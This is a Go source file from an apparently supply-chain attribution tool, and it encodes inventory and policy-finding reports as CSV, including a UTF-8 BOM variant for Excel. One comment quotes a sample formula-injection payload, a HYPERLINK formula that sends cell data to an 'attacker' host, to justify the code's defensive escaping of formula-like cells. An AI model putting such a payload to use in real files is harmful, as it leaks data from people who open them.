package report

import (
	"bufio"
	"encoding/csv"
	"fmt"
	"io"
	"strconv"
	"strings"
	"time"

	"github.com/embargo-dev/embargo/attribute"
	"github.com/embargo-dev/embargo/finding"
	"github.com/embargo-dev/embargo/inventory"
)

// CSV writes one row per item, attributed or not, then one row per
// unknown, for spreadsheets and scripts. The status column says which:
// restricted, not-attributed or unknown. The local column is true when a
// fact from a local catalogue file decided the attribution, and the data
// column (the last of every CSV report, findings and traffic too, the
// same on every row) names the catalogue and packs that decided it.
//
// A report judged by policy is written as one row per finding instead,
// with the columns of CSVFindingsHeader: the state (open or waived), the
// rule and its instrument, the deadline (YYYY-MM-DD, empty when there is
// none) and where the finding stands against it (due: none, due or
// overdue; days_left, negative when overdue), when it was first seen (RFC
// 3339), the system and host, the item, and the waiver that decided it,
// if any (waiver_note says when it expired). Unknowns follow, one row
// each, with state "unknown", the item's name and host, and in error
// where it is and why it could not be read or attributed: unknown is never
// compliant.
//
// Cells that a spreadsheet would take for a formula (starting with = + -
// @, a tab or a carriage return) get a leading apostrophe. Every cell of
// an inventory comes from the input, and inputs are not trusted: a
// package named =HYPERLINK("https://attacker/?"&A1) or a DDE payload
// would otherwise run in Excel, LibreOffice or Google Sheets when an
// analyst opens the report (CSV or formula injection, OWASP). The
// apostrophe is what spreadsheets themselves use to mark text; scripts
// that need the raw values should read -o json instead.
//
// The csv-excel format (Excel set) is the same CSV for Excel on Windows,
// which reads a CSV file without a byte order mark in the system's ANSI
// code page, so that Cyrillic and Chinese names come out garbled: it
// starts with the UTF-8 byte order mark (EF BB BF) and ends its lines
// with CRLF.
type CSV struct {
	Excel bool
}

// Name implements Encoder.
func (c CSV) Name() string {
	if c.Excel {
		return "csv-excel"
	}
	return "csv"
}

// utf8BOM is the byte order mark of UTF-8.
const utf8BOM = "\xef\xbb\xbf"

// CSVHeader lists the columns of the CSV report, in order.
var CSVHeader = []string{
	"status", "item_id", "name", "version", "type", "ecosystem",
	"source", "ref", "line", "host",
	"product_id", "product", "supplier_id", "supplier", "supplier_country",
	"controlling_country", "control_chain", "confidence", "score", "evidence", "reason",
	"tier", "decided_by", "basis", "dependency_path", "local", "data",
}

// CSVFindingsHeader lists the columns of the CSV report of a report
// judged by policy, in order.
var CSVFindingsHeader = []string{
	"finding_id", "state", "effect", "severity", "instrument", "pack", "rule", "clause", "url",
	"deadline", "due", "days_left", "first_seen",
	"system", "classification", "department", "owner", "unregistered", "host",
	"item_id", "item_name", "item_version", "product", "supplier", "controlling_country",
	"waiver_id", "waiver_expiry", "waiver_note", "error", "tier", "local", "data",
}

// Row statuses of the CSV report.
const (
	StatusRestricted    = "restricted"
	StatusNotAttributed = "not-attributed"
	StatusUnknown       = "unknown"
)

// Encode implements Encoder.
func (c CSV) Encode(w io.Writer, r *Report) error {
	bw := bufio.NewWriterSize(w, 64<<10)
	cw := csv.NewWriter(bw)
	if c.Excel {
		bw.WriteString(utf8BOM) // an error is kept by bw and returned by Flush
		cw.UseCRLF = true
	}
	write := csvItems
	switch {
	case r.Policy != nil:
		write = csvFindings
	case r.Traffic != nil:
		write = csvTraffic
	}
	if err := write(cw, r); err != nil {
		return err
	}
	cw.Flush()
	if err := cw.Error(); err != nil {
		return err
	}
	return bw.Flush()
}

// csvWriter writes rows of header's columns, each cell guarded by csvCell.
func csvWriter(cw *csv.Writer, header []string) (row []string, write func() error, err error) {
	row = make([]string, len(header))
	write = func() error {
		for i, c := range row {
			row[i] = csvCell(c)
		}
		return cw.Write(row)
	}
	return row, write, cw.Write(header)
}

func csvItems(cw *csv.Writer, r *Report) error {
	row, write, err := csvWriter(cw, CSVHeader)
	if err != nil {
		return err
	}
	for _, e := range r.Items {
		clear(row)
		row[0] = StatusNotAttributed
		row[1], row[2], row[3], row[4], row[5] = e.ID, e.Name, e.Version, string(e.Type), e.Ecosystem
		csvLocation(row, e.Location)
		if a := e.Attribution; a != nil {
			v := a.View()
			row[0] = StatusRestricted
			if v.Product != nil {
				row[10], row[11] = v.Product.ID, v.Product.Name
			}
			row[12], row[13], row[14] = v.Supplier.ID, v.Supplier.Name, v.Supplier.Country
			row[15], row[16] = v.ControllingCountry, chainIDs(v.ControlChain)
			row[17], row[18] = v.Confidence.String(), strconv.Itoa(v.Score)
			row[19] = evidenceCompact(v.Evidence)
			row[21], row[22], row[23] = string(v.Tier), string(v.DecidedBy.Kind)+":"+v.DecidedBy.Identifier, v.DecidedBy.Basis
			row[25] = strconv.FormatBool(v.Local)
		}
		row[24], row[26] = strings.Join(e.DependencyPath, " > "), r.Data.Cell()
		if err := write(); err != nil {
			return err
		}
	}
	for _, u := range r.Unknowns {
		clear(row)
		row[0], row[2] = StatusUnknown, u.Name
		csvLocation(row, u.Location)
		row[20], row[26] = u.Reason, r.Data.Cell()
		if err := write(); err != nil {
			return err
		}
	}
	return nil
}

func csvFindings(cw *csv.Writer, r *Report) error {
	row, write, err := csvWriter(cw, CSVFindingsHeader)
	if err != nil {
		return err
	}
	for i := range r.Findings {
		f := &r.Findings[i]
		clear(row)
		row[0], row[1], row[2], row[3] = f.ID, string(f.State), string(f.Effect), string(f.Severity)
		row[4], row[5], row[6], row[7], row[8] = f.Instrument, f.Pack, f.Rule, f.Clause, f.URL
		row[9], row[10] = ymd(f.Deadline), string(f.Due)
		if f.Due != finding.NoDeadline && f.Due != "" {
			row[11] = strconv.Itoa(f.DaysLeft)
		}
		if !f.FirstSeen.IsZero() {
			row[12] = f.FirstSeen.UTC().Format(time.RFC3339)
		}
		row[13], row[14], row[15], row[16] = f.System, f.Classification, f.Department, f.Owner
		row[17], row[18] = strconv.FormatBool(f.Unregistered), f.Host
		row[19], row[20], row[21] = f.Item, f.ItemName, f.ItemVersion
		row[22], row[23], row[24] = f.Product, f.Supplier, f.Country
		if w := f.Waiver; w != nil {
			row[25], row[26], row[27] = w.ID, ymd(w.Expiry), w.Note
		}
		row[28], row[29], row[30], row[31] = f.Error, f.Tier, strconv.FormatBool(f.Local), r.Data.Cell()
		if err := write(); err != nil {
			return err
		}
	}
	for _, u := range r.Unknowns {
		clear(row)
		row[1], row[18], row[20] = StatusUnknown, u.Location.Host, u.Name
		row[28], row[31] = u.Location.String()+": "+u.Reason, r.Data.Cell()
		if err := write(); err != nil {
			return err
		}
	}
	return nil
}

func csvLocation(row []string, l inventory.Location) {
	row[6], row[7], row[9] = l.Source, l.Ref, l.Host
	if l.Line > 0 {
		row[8] = strconv.Itoa(l.Line)
	}
}

// csvCell neutralises a cell that a spreadsheet would evaluate; see CSV.
// A negative whole number (days_left) is left as it is: a spreadsheet
// reads it as a number, never as a formula.
func csvCell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		if negativeInt(s) {
			return s
		}
		return "'" + s
	}
	return s
}

// negativeInt reports whether s is "-" and decimal digits only.
func negativeInt(s string) bool {
	if len(s) < 2 || s[0] != '-' {
		return false
	}
	for _, c := range s[1:] {
		if c < '0' || c > '9' {
			return false
		}
	}
	return true
}

// chainIDs writes a control chain as entity ids, supplier first:
// "kaspersky-ao > kaspersky-holding".
func chainIDs(links []attribute.ChainLink) string {
	ids := make([]string, len(links))
	for i, l := range links {
		ids[i] = l.ID
	}
	return strings.Join(ids, " > ")
}

// evidenceCompact writes evidence as "field=value~kind:identifier", joined
// with "; ".
func evidenceCompact(ev []attribute.Evidence) string {
	parts := make([]string, len(ev))
	for i, e := range ev {
		parts[i] = fmt.Sprintf("%s=%s~%s:%s", e.Field, e.Value, e.Kind, e.Identifier)
	}
	return strings.Join(parts, "; ")
}

// evidenceText writes one piece of evidence for a person:
// "purl=pkg:deb/debian/kesl@1 matches deb_package kesl (https://…)".
func evidenceText(e attribute.Evidence) string {
	s := fmt.Sprintf("%s=%s matches %s %s", e.Field, e.Value, e.Kind, e.Identifier)
	switch {
	case e.SourceURL != "":
		s += " (" + e.SourceURL + ")"
	case e.Source != "":
		s += " (" + e.Source + ")"
	}
	return s
}

// CSVCell is csvCell for other writers of CSV (the flows report).
func CSVCell(s string) string { return csvCell(s) }
